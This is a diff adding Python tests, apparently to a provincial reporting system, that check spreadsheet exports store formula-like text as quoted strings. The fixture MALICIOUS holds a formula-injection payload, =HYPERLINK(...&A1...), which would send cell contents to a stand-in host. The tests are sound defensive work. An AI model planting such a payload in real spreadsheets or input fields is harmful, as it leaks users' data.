@@ -96,3 +96,32 @@ def test_the_consolidated_pdf_has_the_province_figures_and_the_late_units(approv
     assert "15 20 5" in text  # province: value, target, gap of the campaigns
     assert "Xã An Bình" in text and "Phường Bình Minh" in text
     assert "Trễ hạn" in text
+
+
+MALICIOUS = '=HYPERLINK("http://x?d="&A1,"x")'
+
+
+def _text_cells(book):
+    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
+            if isinstance(cell.value, str)]
+
+
+def test_report_text_that_looks_like_a_formula_is_written_as_text(followed, province, commune_admin):
+    """Issue 13, finding 4: free text typed into a report must not become a live formula in its spreadsheet."""
+    report = fill_sections(reports.start_report(unit=province.a, year=YEAR, actor=commune_admin), commune_admin,
+                           general_assessment=MALICIOUS, recipients="- UBND tỉnh;\n+ Lưu: VT.")
+    book = load_workbook(io.BytesIO(reports.unit_report_xlsx(report)))
+    cells = {cell.value: cell for cell in _text_cells(book)}
+    for text in (MALICIOUS, "- UBND tỉnh;", "+ Lưu: VT."):
+        assert (cells[text].data_type, cells[text].quotePrefix) == ("s", True)
+
+
+def test_a_unit_name_that_looks_like_a_formula_is_text_in_the_consolidated_spreadsheet(approved_report, followed,
+                                                                                      province):
+    province.b.name = MALICIOUS
+    province.b.save(update_fields=["name"])
+    consolidated = reports.consolidated_report(province=province.root, year=YEAR, plan_id=followed.plan.pk,
+                                               today=datetime.date(YEAR, 12, 20))
+    book = load_workbook(io.BytesIO(reports.province_report_xlsx(consolidated)))
+    found = [cell for cell in _text_cells(book) if cell.value == MALICIOUS]
+    assert found and all((cell.data_type, cell.quotePrefix) == ("s", True) for cell in found)
